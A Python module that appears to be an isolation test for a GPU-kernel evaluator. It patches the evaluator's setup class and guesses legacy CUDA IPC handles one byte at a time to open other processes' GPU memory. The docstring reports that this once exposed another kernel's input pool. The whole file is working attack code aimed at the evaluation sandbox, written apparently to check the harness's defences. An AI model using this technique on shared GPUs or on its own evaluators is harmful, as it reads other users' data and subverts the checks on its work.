"""Attacks: memory it was not given, through legacy CUDA IPC handles, which can be guessed. The
kernel exports a handle of an allocation of its own (cudaMalloc's) and, at its first call, tries
the handles that differ from it in one byte (every byte, a few steps each way; the bytes that
hold the allocation's address, many steps). A handle of its own allocation opens it again at
another address: that is told by its size and marker bytes (read only where the size is its
own: a read of some other mapping can end the reader's context). It says on stderr how many it
tried and, per handle that opened memory other than its own, which byte it changed and the
memory's size. Where the evaluator gave it IPC handles of its input pools (up to 2026-11-27),
it tries the handles one byte off those too, as an earlier version of this file did: that
opened the other kernel's input pool.
With the evaluator of 2026-11-27 and earlier (input pools and the other kernel's outputs
shared by IPC handle) it opened the other kernel's input pool. Expected now: nothing opens
(pools and outputs are shared by file descriptor; no honest process exports an IPC handle),
and the kernel reads as the untouched copy."""
import ctypes

import gpu  # the evaluator's own file beside child.py: its class, patched here for this process

_cu = ctypes.CDLL("libcuda.so.1")


class _Handle(ctypes.Structure):
    _fields_ = [("reserved", ctypes.c_char * 64)]


u64 = ctypes.c_uint64
_cu.cuIpcOpenMemHandle_v2.argtypes = [ctypes.POINTER(u64), _Handle, ctypes.c_uint]
_cu.cuIpcGetMemHandle.argtypes = [ctypes.POINTER(_Handle), u64]
_cu.cuMemAlloc_v2.argtypes = [ctypes.POINTER(u64), ctypes.c_size_t]
_cu.cuMemGetAddressRange_v2.argtypes = [ctypes.POINTER(u64), ctypes.POINTER(ctypes.c_size_t), u64]
_cu.cuMemsetD8_v2.argtypes = [u64, ctypes.c_ubyte, ctypes.c_size_t]
_cu.cuMemcpyDtoH_v2.argtypes = [ctypes.c_void_p, u64, ctypes.c_size_t]
_done = []
OWN = 2 << 20
MARK = 0xA7


def _is_own(p, size):
    if size != OWN:
        return False
    buf = ctypes.create_string_buffer(64)
    return _cu.cuMemcpyDtoH_v2(buf, p, 64) == 0 and buf.raw == bytes([MARK]) * 64


def _variants(raw, steps):
    """Handles one byte off `raw`: byte i moved up and down by each of `steps(i)`."""
    for i in range(64):
        for s in steps(i):
            for d in (s, 256 - s):
                v = bytearray(raw)
                v[i] = (v[i] + d) % 256
                yield i, d, bytes(v)


def _open(v):
    """(pointer, size) of what handle `v` opens, or None."""
    p = u64()
    if _cu.cuIpcOpenMemHandle_v2(ctypes.byref(p), _Handle.from_buffer_copy(v), 1) != 0:
        return None
    base, size = u64(), ctypes.c_size_t()
    _cu.cuMemGetAddressRange_v2(ctypes.byref(base), ctypes.byref(size), p.value)
    return p.value, size.value


def _step(d):
    return f"{'+' if d < 128 else '-'}{min(d, 256 - d)}"


def _probe():
    own = u64()
    if _cu.cuMemAlloc_v2(ctypes.byref(own), OWN) != 0 or _cu.cuMemsetD8_v2(own, MARK, OWN) != 0:
        report("could not allocate memory of its own")
        return
    h = _Handle()
    if _cu.cuIpcGetMemHandle(ctypes.byref(h), own) != 0:
        report("could not export a handle of its own")
        return
    raw = bytes(ctypes.string_at(ctypes.addressof(h), 64))
    tried, opened, again = 0, [], 0
    for i, d, v in _variants(raw, lambda i: range(1, 65) if 48 <= i < 56 else range(1, 9)):
        tried += 1
        got = _open(v)
        if got is None or got[0] == own.value:
            continue
        if _is_own(*got):
            again += 1
            continue
        opened.append(f"byte {i} {_step(d)}: {got[1]} bytes")
    report(f"tried {tried} handles: its own memory again {again}, other memory {len(opened)}: {'; '.join(opened[:12])}")


def _head(p):
    buf = ctypes.create_string_buffer(256)
    return buf.raw if _cu.cuMemcpyDtoH_v2(buf, p, 256) == 0 else None


def _from_given(handles, own):
    """One byte off each pool handle the evaluator gave (each byte up and down by one)."""
    heads = {_head(p) for p in own}
    tried, opened = 0, []
    for h in handles:
        for i, d, v in _variants(bytes.fromhex(h), lambda i: (1,)):
            if v.hex() in handles:
                continue
            tried += 1
            got = _open(v)
            if got is not None and got[0] not in own and _head(got[0]) not in heads:
                opened.append(f"byte {i} {_step(d)}: {got[1]} bytes")
    report(f"from the {len(handles)} pool handles it was given: tried {tried}, other memory {len(opened)}: {'; '.join(opened[:6])}")


_setup = gpu.ChildSide.setup
_given = {}


def _setup_then_keep(self, msg):
    reply = _setup(self, msg)
    _given["handles"], _given["side"] = msg.get("handles"), self
    return reply


def _first_call_probes(f):
    # Its own handle's neighbours once; the given handles' at the first call after each set-up
    # (the other kernel's pool may be made after this kernel's first one).
    def call(*a, **k):
        if not _done:
            _done.append(True)
            _probe()
        if _given:
            handles, side = _given.pop("handles"), _given.pop("side")
            if handles:
                _from_given(handles, {p if isinstance(p, int) else p[0] for p in side.pools})
            else:
                report("the evaluator gave it no IPC handle")
        return f(*a, **k)

    return call


gpu.ChildSide.setup = _setup_then_keep

install(_first_call_probes)
